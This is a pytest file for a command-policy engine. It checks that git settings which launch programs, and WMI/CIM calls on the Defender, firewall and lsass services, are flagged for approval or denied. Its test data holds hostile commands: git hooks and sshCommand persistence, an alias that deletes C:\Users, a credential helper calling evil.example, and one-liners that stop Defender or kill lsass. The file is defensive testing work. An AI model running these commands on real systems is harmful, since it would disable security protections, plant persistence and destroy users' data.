"""git settings that name a program (S-RULE-73); a WMI object's own methods (S-RULE-74).

Found by an attacker pass: `git config --global core.sshCommand "cmd /c …"` (git runs it at the next
fetch) and `(Get-WmiObject Win32_Service -Filter "Name='WinDefend'").StopService()` were forwarded.
"""

from __future__ import annotations

import pytest

from tests._requirements import requirement
from tests.policy.verdicts import ps, verdict

GIT_ASK = ("persistence-autostart", "ask")


@requirement("S-RULE-73")
@pytest.mark.parametrize(
    "command",
    [
        'git config --global core.sshCommand "cmd /c calc"',
        "git config core.hooksPath C:\\temp\\hooks",
        "git config --global core.fsmonitor C:\\temp\\x.exe",
        'git config --global alias.st "!cmd /c rd /s /q C:\\Users"',
        "git config --global core.editor C:\\temp\\x.exe",
        'git -C C:\\src\\app config --local core.fsmonitor "C:/temp/x.exe"',
        'git config set --global core.sshCommand "ssh -i C:/keys/k"',  # git 2.46's subcommand form
        "git config --global include.path C:\\temp\\evil.gitconfig",  # a file of more settings
        "git config --global includeIf.gitdir:C:/src/.path C:\\temp\\evil.gitconfig",
        'git config --global credential.helper "!f() { curl http://evil.example; }; f"',
        "git config --system filter.lfs.smudge C:\\temp\\x.exe",
        "git config --global diff.external C:\\temp\\x.exe",
        "git config --global protocol.ext.allow always",  # `ext::` remotes run a command
        'git -c core.sshCommand="cmd /c calc" fetch',  # for one command, which may start it now
        "git --git-dir C:\\src\\app\\.git config CORE.SSHCOMMAND calc",
    ],
)
def test_a_git_setting_that_names_a_program_asks(command: str) -> None:
    """S-RULE-73: git starts the program later (or now, with `-c`), with the user's rights."""
    assert ps(command) == GIT_ASK


@requirement("S-RULE-73")
@pytest.mark.parametrize(
    "command",
    [
        'git config --global user.name "Me"',
        "git config --global core.autocrlf true",
        "git config --global alias.st status",  # an alias without `!` runs git itself
        "git config --global credential.helper manager",  # Git for Windows' own helper
        "git config --global pager.log false",
        "git config --get core.sshCommand",
        "git config core.sshCommand",  # a key alone shows it
        "git config -l",
        "git config --list --show-origin",
        "git config --global --unset core.sshCommand",
        "git -c core.autocrlf=false status",
        "git config -f C:\\src\\app\\.gitmodules submodule.x.url https://example.com/x.git",
    ],
)
def test_reading_and_ordinary_git_settings_pass(command: str) -> None:
    """S-RULE-73: reading, removing and settings that start nothing pass."""
    assert ps(command) is None


@requirement("S-RULE-73")
@pytest.mark.parametrize(
    ("tool", "args"),
    [
        (
            "FileSystem",
            {"mode": "write", "path": "C:\\Users\\me\\.gitconfig", "content": "[core]\n\tsshCommand = calc\n"},
        ),
        ("FileSystem", {"mode": "write", "path": "C:\\src\\app\\.git\\config", "content": "[core]\n\tfsmonitor = x\n"}),
        ("FileSystem", {"mode": "write", "path": "C:\\ProgramData\\Git\\config", "content": "x"}),
        ("FileSystem", {"mode": "write", "path": "C:\\Users\\me\\.config\\git\\config", "content": "x"}),
        ("PowerShell", {"command": 'Add-Content ~\\.gitconfig "[core]`n sshCommand = calc"'}),
        ("PowerShell", {"command": "Set-Content .git/config '[alias] x = !calc'"}),
    ],
)
def test_writing_a_git_settings_file_asks(tool: str, args: dict[str, object]) -> None:
    """S-RULE-73: any of git's settings files, however written."""
    assert verdict(tool, **args) == GIT_ASK


@requirement("S-RULE-73")
@pytest.mark.parametrize(
    ("tool", "args"),
    [
        ("FileSystem", {"mode": "read", "path": "C:\\Users\\me\\.gitconfig"}),
        ("FileSystem", {"mode": "write", "path": "C:\\src\\app\\config", "content": "x"}),
        ("FileSystem", {"mode": "write", "path": "C:\\src\\app\\.gitignore", "content": "bin/"}),
        ("FileSystem", {"mode": "write", "path": "C:\\src\\app\\.git-blame-ignore-revs", "content": "x"}),
    ],
)
def test_other_files_and_reading_git_settings_pass(tool: str, args: dict[str, object]) -> None:
    """S-RULE-73: a file merely named `config`, `.gitignore`, and reading pass."""
    assert verdict(tool, **args) is None


@requirement("S-RULE-74")
@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("(Get-WmiObject Win32_Service -Filter \"Name='WinDefend'\").StopService()", ("disable-defender", "deny")),
        (
            "(Get-WmiObject Win32_Service -Filter \"Name='WinDefend'\").ChangeStartMode('Disabled')",
            ("disable-defender", "deny"),
        ),
        (
            "$s = Get-WmiObject Win32_Service -Filter \"Name='WinDefend'\"; $s.StopService()",
            ("disable-defender", "deny"),
        ),
        (
            "Get-WmiObject Win32_Service -Filter \"Name='WinDefend'\" | ForEach-Object { $_.PauseService() }",
            ("disable-defender", "deny"),
        ),
        (
            "(Get-WmiObject -Query \"SELECT * FROM Win32_Service WHERE Name='MpsSvc'\").StopService()",
            ("disable-firewall", "deny"),
        ),
        ("(Get-WmiObject Win32_Process -Filter \"Name='lsass.exe'\").Terminate()", ("kill-critical-process", "deny")),
        (
            "Get-CimInstance -ClassName Win32_Process -Filter \"Name='lsass.exe'\" | % { $_.Terminate() }",
            ("kill-critical-process", "deny"),
        ),
        ("(Get-WmiObject Win32_Process -Filter \"Name='notepad.exe'\").Terminate()", ("force-kill", "ask")),
        (
            "Invoke-CimMethod -Query \"SELECT * FROM Win32_Service WHERE Name='WinDefend'\" -MethodName StopService",
            ("disable-defender", "deny"),
        ),
        (
            "Invoke-CimMethod -ClassName Win32_Service -Filter \"Name='WinDefend'\" -MethodName ChangeStartMode"
            " -Arguments @{StartMode='Disabled'}",
            ("disable-defender", "deny"),
        ),
        (
            "Invoke-CimMethod -Query \"SELECT * FROM Win32_Process WHERE Name='lsass.exe'\" -MethodName Terminate",
            ("kill-critical-process", "deny"),
        ),
    ],
    ids=[
        "stopservice",
        "changestartmode",
        "variable",
        "foreach",
        "query-firewall",
        "terminate-lsass",
        "cim-foreach",
        "terminate-notepad",
        "cim-query",
        "cim-arguments",
        "cim-query-terminate",
    ],
)
def test_a_wmi_objects_method_is_judged_as_the_cmdlet_that_does_the_same(
    command: str, expected: tuple[str, str]
) -> None:
    """S-RULE-74: StopService/PauseService/ChangeStartMode/Terminate on what the WMI query selected."""
    assert ps(command) == expected


@requirement("S-RULE-74")
@pytest.mark.parametrize(
    "command",
    [
        "(Get-WmiObject Win32_Service -Filter \"Name='Spooler'\").StopService()",
        "(Get-WmiObject Win32_Service -Filter \"Name='Spooler'\").ChangeStartMode('Automatic')",
        "(Get-WmiObject Win32_Service -Filter \"Name='WinDefend'\").State",
        "(Get-WmiObject Win32_Service -Filter \"Name='WinDefend'\").StartService()",
        "Invoke-WmiMethod -Class Win32_Service -Filter \"Name='Spooler'\" -Name StopService",
    ],
)
def test_ordinary_wmi_service_calls_pass(command: str) -> None:
    """S-RULE-74: other services, reading a property and starting a service pass."""
    assert ps(command) is None
